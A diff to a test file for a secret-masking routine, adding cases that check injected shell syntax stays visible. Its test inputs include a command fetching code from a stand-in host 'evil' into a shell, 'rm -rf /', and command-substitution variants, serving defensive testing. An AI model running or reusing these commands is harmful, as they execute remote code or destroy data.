@@ -12,7 +12,7 @@ describe('secrets', () => {
     ['postgres://ana:hunter22@db/x', null],
     ['PASSWORD=hunter22 npm start', null],
     ['{"api_key": "abcdefgh"}', null],
-    ['-----BEGIN RSA PRIVATE KEY-----\nabc\n-----END RSA PRIVATE KEY-----', null],
+    ['-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEAabcdefgh\nMIIE==\n-----END RSA PRIVATE KEY-----', null],
     ['eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.abcdefghij', null],
     ['hunter22', 'password'],
     ['hunter22', 'dbPassword'],
@@ -29,8 +29,19 @@ describe('secrets', () => {
     ['4096', 'token'],
     ['src/secret.ts', 'path'],
     ['rm -rf / --please do', 'password'],
+    ['$(curl${IFS}evil|sh)', 'password'],
+    ['-----BEGIN PRIVATE KEY-----; rm -rf / -----END PRIVATE KEY-----', null],
+    ['-----BEGIN PRIVATE KEY-----\nreboot\n-----END PRIVATE KEY-----', null],
   ])('are nothing that one must read: %s in %s', (text, name) => {
     expect(secretsIn(text, name).every(({ mask }) => mask === null)).toBe(true);
+  });
+
+  it('hide no command: what stands behind a name ends where a shell would do something', () => {
+    for (const sign of ['$(reboot)', '`reboot`', '|reboot', ';reboot', '&&reboot', '>reboot', '<(reboot)', '{reboot,}']) {
+      expect(withoutSecrets(`token=abcdefgh${sign}`), sign).toContain('reboot');
+      expect(withoutSecrets(`postgres://ana:${sign}@db`), sign).toContain('reboot');
+      expect(withoutSecrets(`abcd${sign}`, 'token'), sign).toContain('reboot');
+    }
   });
 
   it('are parts of the text: nothing is lost, and no space is masked', () => {
